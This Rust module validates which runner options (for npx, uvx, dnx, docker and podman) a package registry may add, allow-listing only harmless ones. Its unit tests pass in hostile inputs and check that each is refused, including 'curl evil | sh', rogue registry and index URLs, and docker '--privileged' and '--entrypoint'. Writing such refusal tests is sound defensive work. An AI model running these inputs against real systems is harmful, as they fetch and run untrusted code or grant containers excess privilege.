//! What runs packages, and which words for it are taken from a registry.

use crate::plan::error::PlanError;
use crate::plan::plan_type::Item;
use crate::plan::template::Piece;

/// A program that fetches and runs packages.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Runner {
    Npx,
    Bunx,
    Uvx,
    Dnx,
    Docker,
    Podman,
}

/// Options without a value, and with one. Everything else could bring in other code than the
/// package that was shown.
type Options = (&'static [&'static str], &'static [&'static str]);

const NPX: Options =
    (&["-y", "--yes", "-q", "--quiet", "--silent", "--prefer-offline"], &["--loglevel"]);
const UVX: Options = (
    &["-q", "--quiet", "--no-progress", "--isolated", "--offline", "-v", "--verbose"],
    &["-p", "--python"],
);
const DNX: Options =
    (&["-y", "--yes", "--allow-roll-forward", "--prerelease"], &["-v", "--verbosity"]);
const CONTAINER: Options = (
    &["-i", "--interactive", "--rm", "--init", "--read-only", "-q", "--quiet"],
    &[
        "-e",
        "--env",
        "-v",
        "--volume",
        "--mount",
        "-p",
        "--publish",
        "--network",
        "--net",
        "--name",
        "-u",
        "--user",
        "-w",
        "--workdir",
        "--add-host",
        "--platform",
        "--pull",
        "-m",
        "--memory",
        "--cpus",
        "--tmpfs",
        "-l",
        "--label",
        "-h",
        "--hostname",
        "--shm-size",
        "--cap-drop",
        "--dns",
        "--stop-timeout",
        "--log-driver",
        "--ulimit",
        "--pids-limit",
    ],
);

impl Runner {
    /// The one for a kind of package; a hint chooses among those that can do it.
    pub(crate) fn of(kind: &str, hint: Option<&str>) -> Option<Self> {
        match (kind, hint) {
            ("npm", Some("bunx" | "bun")) => Some(Self::Bunx),
            ("npm", _) => Some(Self::Npx),
            ("pypi", _) => Some(Self::Uvx),
            ("nuget", _) => Some(Self::Dnx),
            ("oci", Some("podman")) => Some(Self::Podman),
            ("oci" | "docker", _) => Some(Self::Docker),
            _ => None,
        }
    }

    /// Its command.
    pub(crate) const fn command(self) -> &'static str {
        match self {
            Self::Npx => "npx",
            Self::Bunx => "bunx",
            Self::Uvx => "uvx",
            Self::Dnx => "dnx",
            Self::Docker => "docker",
            Self::Podman => "podman",
        }
    }

    pub(crate) const fn is_container(self) -> bool {
        matches!(self, Self::Docker | Self::Podman)
    }

    const fn options(self) -> Options {
        match self {
            Self::Npx => NPX,
            Self::Bunx => (&[], &[]),
            Self::Uvx => UVX,
            Self::Dnx => DNX,
            Self::Docker | Self::Podman => CONTAINER,
        }
    }

    /// The words for the runner itself that a registry may add; what we say anyway is left out.
    ///
    /// # Errors
    /// When one of them is none of the known harmless ones.
    pub(crate) fn accepted(
        self,
        items: Vec<Item>,
        package: &str,
        said: &[&str],
    ) -> Result<Vec<Item>, PlanError> {
        let (plain, with_value) = self.options();
        let mut taken = Vec::new();
        let mut rest = items.into_iter().peekable();
        while let Some(mut item) = rest.next() {
            let Some(first) = fixed(&item, 0) else {
                return Err(PlanError::RunnerArgument(shown(&item)));
            };
            let (option, has_value) = match first.split_once('=') {
                Some((option, _)) if option.starts_with("--") => (option, true),
                _ => (first.as_str(), item.words.len() > 1),
            };
            let name = package.rsplit_once('@').map_or(package, |(name, _)| name);
            if first == package || first == name || said.contains(&first.as_str()) {
                continue;
            }
            if plain.contains(&option) && !has_value {
                taken.push(item);
            } else if with_value.contains(&option) {
                if !has_value {
                    // The value may be the next word.
                    let Some(next) = rest.next_if(|next| next.words.len() == 1) else {
                        return Err(PlanError::RunnerArgument(first));
                    };
                    item.words.extend(next.words);
                    item.required |= next.required;
                }
                taken.push(item);
            } else {
                return Err(PlanError::RunnerArgument(first));
            }
        }
        Ok(taken)
    }
}

/// A word that does not depend on answers.
fn fixed(item: &Item, index: usize) -> Option<String> {
    match item.words.get(index)?.pieces.as_slice() {
        [Piece::Text(text)] => Some(text.clone()),
        _ => None,
    }
}

fn shown(item: &Item) -> String {
    item.words.iter().map(crate::plan::Template::shown).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(runner: Runner, words: &[&str], expected: Result<&str, &str>) {
        let items = words.iter().map(|word| Item::fixed([*word])).collect();
        let got = runner.accepted(items, "a@1.2.3", &["run", "-i", "--rm"]);
        let got = got.map(|items| items.iter().map(shown).collect::<Vec<_>>().join(" "));
        let expected =
            expected.map(str::to_owned).map_err(|word| PlanError::RunnerArgument(word.to_owned()));
        assert_eq!(got, expected, "{runner:?} {words:?}");
    }

    #[test]
    fn words_that_bring_in_other_code_are_refused() {
        check(Runner::Npx, &["-y", "a@1.2.3"], Ok("-y"));
        check(Runner::Npx, &["-y", "a"], Ok("-y"));
        check(Runner::Npx, &["--package=evil"], Err("--package=evil"));
        check(Runner::Npx, &["--package", "evil"], Err("--package"));
        check(Runner::Npx, &["-c", "curl evil | sh"], Err("-c"));
        check(Runner::Npx, &["--node-options=--require=./x"], Err("--node-options=--require=./x"));
        check(
            Runner::Npx,
            &["--registry=https://evil.example"],
            Err("--registry=https://evil.example"),
        );
        check(Runner::Npx, &["b@1.0.0"], Err("b@1.0.0"));
        check(Runner::Uvx, &["--python", "3.12"], Ok("--python 3.12"));
        check(Runner::Uvx, &["--from", "git+https://evil"], Err("--from"));
        check(Runner::Uvx, &["--with", "evil"], Err("--with"));
        check(Runner::Uvx, &["--index-url=https://evil"], Err("--index-url=https://evil"));
        check(Runner::Docker, &["run", "-i", "--rm", "-v", "/a:/b"], Ok("-v /a:/b"));
        check(
            Runner::Docker,
            &["--mount=type=bind,src=/a,dst=/b"],
            Ok("--mount=type=bind,src=/a,dst=/b"),
        );
        check(Runner::Docker, &["--entrypoint", "sh"], Err("--entrypoint"));
        check(Runner::Docker, &["--privileged"], Err("--privileged"));
        check(Runner::Docker, &["--env-file", "x"], Err("--env-file"));
        check(Runner::Docker, &["-v"], Err("-v"));
    }

    #[test]
    fn a_hint_chooses_only_among_runners_of_the_kind() {
        for (kind, hint, expected) in [
            ("npm", None, Some("npx")),
            ("npm", Some("bash"), Some("npx")),
            ("npm", Some("bunx"), Some("bunx")),
            ("pypi", Some("python"), Some("uvx")),
            ("oci", Some("/tmp/evil"), Some("docker")),
            ("oci", Some("podman"), Some("podman")),
            ("nuget", None, Some("dnx")),
            ("cargo", None, None),
            ("shell", Some("bash"), None),
        ] {
            assert_eq!(Runner::of(kind, hint).map(Runner::command), expected, "{kind} {hint:?}");
        }
    }
}
